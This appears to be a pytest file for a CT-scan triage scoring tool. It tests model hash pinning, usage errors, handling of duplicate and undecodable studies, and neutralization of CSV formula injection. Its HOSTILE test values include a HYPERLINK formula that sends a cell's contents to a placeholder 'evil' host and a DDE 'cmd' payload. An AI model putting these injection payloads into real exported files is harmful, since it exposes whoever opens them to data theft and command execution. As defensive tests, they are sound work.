"""Only the pinned model runs; clear usage errors; no study dropped; CSV injection (issue 14).

Items 5, 6 (threshold, model paths), 8 and 9.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner
from score_helpers import StudySpec, head_slice, read_csv, write_ct, write_study
from tinymodel import make_tiny_model

from ichrt.runtime.cli import main
from ichrt.runtime.contract import ModelContract
from ichrt.runtime.scorer import Scorer
from ichrt.runtime.session import PIN_ENV, ModelError, ModelNotPinned, load_model
from ichrt.runtime.worklist import csv_safe


@pytest.fixture(scope="module")
def studies(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("in")
    write_study(root, StudySpec("7.1", (0.0, 0.6)), "a")
    return root


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run(*args: str, env: dict | None = None):
    return CliRunner().invoke(main, ["score", *args, "--provider", "cpu", "--threads", "1"],
                              catch_exceptions=False, env=env)


# ----------------------------------------------------------------------------- item 5


def test_pinned_model_runs_and_its_hash_is_in_every_output(tiny_model, studies, tmp_path):
    sha = sha256_of(tiny_model[0])
    out = tmp_path / "out"
    res = run(str(studies), "--out", str(out), "--model", str(tiny_model[0]),
              "--require-sha256", f"sha256:{sha.upper()}")
    assert res.exit_code == 0, res.output
    doc = json.loads((out / "worklist.json").read_text())
    assert doc["model"]["sha256"] == sha and doc["model"]["pinned"] is True
    assert json.loads((out / "run.json").read_text())["model"]["sha256"] == sha
    for name in ("worklist.csv", "slices.csv"):
        assert {row["model_sha256"] for row in read_csv(out / name)} == {sha}
    assert f"sha256:{sha[:12]}" in res.stdout


def test_edited_contract_under_the_same_name_is_refused(tiny_model, studies, tmp_path):
    # Same name, threshold 1.0 and temperature 1e-9: a different file, so a different hash.
    edited = tmp_path / "edited.onnx"
    make_tiny_model(edited, ModelContract(input_size=32, name="tiny-test-model", arch="tiny",
                                          thresholds={"any": 1.0},
                                          temperatures={"any": 1e-9}))
    out = tmp_path / "out"
    res = run(str(studies), "--out", str(out), "--model", str(edited),
              "--require-sha256", sha256_of(tiny_model[0]))
    assert res.exit_code == 1
    assert "not the model this site requires" in res.stderr and "Traceback" not in res.output
    assert not out.exists()


def test_pin_from_the_environment(tiny_model, studies, tmp_path):
    wrong = "0" * 64
    res = run(str(studies), "--out", str(tmp_path / "o"), "--model", str(tiny_model[0]),
              env={PIN_ENV: wrong})
    assert res.exit_code == 1 and "not the model this site requires" in res.stderr
    res = run(str(studies), "--out", str(tmp_path / "o"), "--model", str(tiny_model[0]),
              env={PIN_ENV: f"{wrong},{sha256_of(tiny_model[0])}"})
    assert res.exit_code == 0, res.output


def test_malformed_pin_is_a_usage_error(tiny_model, studies, tmp_path):
    res = run(str(studies), "--out", str(tmp_path / "o"), "--model", str(tiny_model[0]),
              "--require-sha256", "abc123")
    assert res.exit_code == 2 and "not a SHA-256" in res.output


def test_api_refuses_an_unpinned_model(tiny_model, monkeypatch):
    with pytest.raises(ModelNotPinned):
        Scorer(tiny_model[0], provider="cpu", require_sha256="f" * 64)
    model = load_model(tiny_model[0], provider="cpu")
    with pytest.raises(ModelNotPinned):
        Scorer(model, require_sha256="f" * 64)  # an already loaded model is checked too
    monkeypatch.setenv(PIN_ENV, "e" * 64)
    with pytest.raises(ModelNotPinned):
        load_model(tiny_model[0], provider="cpu")
    monkeypatch.setenv(PIN_ENV, sha256_of(tiny_model[0]))
    assert load_model(tiny_model[0], provider="cpu").pinned_to == (sha256_of(tiny_model[0]),)


# ----------------------------------------------------------------------------- item 6


def test_threshold_nan_is_a_usage_error(tiny_model, studies, tmp_path):
    res = run(str(studies), "--out", str(tmp_path / "o"), "--model", str(tiny_model[0]),
              "--threshold", "nan")
    assert res.exit_code == 2 and "nan is not a number" in res.output
    assert "Traceback" not in res.output


@pytest.mark.parametrize("kind", ["device", "fifo"])
def test_model_that_is_not_a_regular_file_is_a_usage_error(studies, tmp_path, kind):
    if kind == "device":
        model = Path("/dev/zero")  # was read until MemoryError
    else:
        model = tmp_path / "model.fifo"  # opening it waited forever for a writer
        os.mkfifo(model)
    res = run(str(studies), "--out", str(tmp_path / "o"), "--model", str(model))
    assert res.exit_code == 2 and "is not a regular file" in res.output
    with pytest.raises(ModelError, match="not a regular file"):
        load_model(model, provider="cpu")  # the API refuses it too, without blocking


# ----------------------------------------------------------------------------- item 8


def test_duplicate_sop_in_a_second_study_keeps_that_study(tiny_model, tmp_path):
    inputs = tmp_path / "in"
    inputs.mkdir()
    write_ct(inputs / "a1.dcm", head_slice(64, 0.6), "5.1", "5.1.1", "5.1.1.1", 1)
    write_ct(inputs / "b1.dcm", head_slice(64), "5.2", "5.2.1", "5.1.1.1", 1,
             accession="ACC-B", study_time="070000")
    out = tmp_path / "out"
    res = run(str(inputs), "--out", str(out), "--model", str(tiny_model[0]))
    assert res.exit_code == 3, res.output
    rows = {r["study_instance_uid"]: r for r in read_csv(out / "worklist.csv")}
    assert set(rows) == {"5.1", "5.2"}
    assert rows["5.2"]["scored"] == "False" and rows["5.2"]["n_rejected"] == "1"
    assert rows["5.2"]["n_slices"] == "0" and rows["5.2"]["p_any"] == ""
    assert rows["5.2"]["accession_number"] == "ACC-B" and rows["5.2"]["flagged"] == "False"
    assert rows["5.1"]["scored"] == "True" and rows["5.1"]["n_rejected"] == "0"
    (rejected,) = read_csv(out / "rejected.csv")
    assert rejected["study_instance_uid"] == "5.2" and "duplicate" in rejected["reason"]
    doc = json.loads((out / "worklist.json").read_text())
    unscored = next(s for s in doc["studies"] if s["study_instance_uid"] == "5.2")
    assert unscored["p_any"] is None and unscored["key_slice_sop_instance_uid"] is None
    assert doc["counts"]["studies"] == 2 and doc["counts"]["not_scored_studies"] == 1
    assert "NOT SCORED" in res.stdout and "1 not scored" in res.stdout


def test_study_whose_files_are_all_undecodable_is_listed(tiny_model, tmp_path):
    from hardening_helpers import rle_bomb

    inputs = tmp_path / "in"
    write_study(inputs, StudySpec("7.1", (0.0,)), "a")
    rle_bomb(inputs / "bomb.dcm", 20000, 20000)  # study 9.1
    result = Scorer(tiny_model[0], provider="cpu").score([inputs])
    assert [s.study_uid for s in result.studies] == ["7.1", "9.1"]
    assert result.studies[1].n_slices == 0 and not result.studies[1].flagged


# ----------------------------------------------------------------------------- item 9

HOSTILE = {
    "study": '=HYPERLINK("http://evil/?x="&A1,"click")',
    "accession": "@SUM(1+1)\x00x",
    "series": "+cmd|' /C calc'!A0",
    "sop": "-2+3",
}


def test_csv_cells_are_neutralized_and_json_stays_exact(tiny_model, tmp_path):
    inputs = tmp_path / "in"
    inputs.mkdir()
    write_ct(inputs / "x.dcm", head_slice(64), HOSTILE["study"], HOSTILE["series"],
             HOSTILE["sop"], 1, accession=HOSTILE["accession"])
    out = tmp_path / "out"
    assert run(str(inputs), "--out", str(out), "--model", str(tiny_model[0])).exit_code == 0
    raw = (out / "worklist.csv").read_bytes() + (out / "slices.csv").read_bytes()
    assert b"\x00" not in raw
    (row,) = read_csv(out / "worklist.csv")
    assert row["study_instance_uid"] == "'" + HOSTILE["study"]
    assert row["accession_number"] == "'@SUM(1+1)\\x00x"
    (item,) = read_csv(out / "slices.csv")
    assert item["series_instance_uid"] == "'" + HOSTILE["series"]
    assert item["sop_instance_uid"] == "'-2+3"
    for cells in (row.values(), item.values()):
        assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells if c)
    doc = json.loads((out / "worklist.json").read_text())
    assert doc["studies"][0]["study_instance_uid"] == HOSTILE["study"]
    assert doc["studies"][0]["accession_number"] == HOSTILE["accession"]


def test_csv_safe_leaves_ordinary_values_and_numbers_alone(tmp_path):
    assert [csv_safe(v) for v in ("1.2.840", "ACC1", "", -0.5, 3, None, "\tx", "\rx")] == [
        "1.2.840", "ACC1", "", -0.5, 3, None, "'\tx", "'\rx"]
    from ichrt.runtime.worklist import write_csv

    path = tmp_path / "x.csv"
    write_csv(path, [{"a": "=1", "extra": "passes through"}], ["a"])
    with open(path, newline="", encoding="utf-8") as fh:
        assert list(csv.reader(fh)) == [["a", "extra"], ["'=1", "passes through"]]
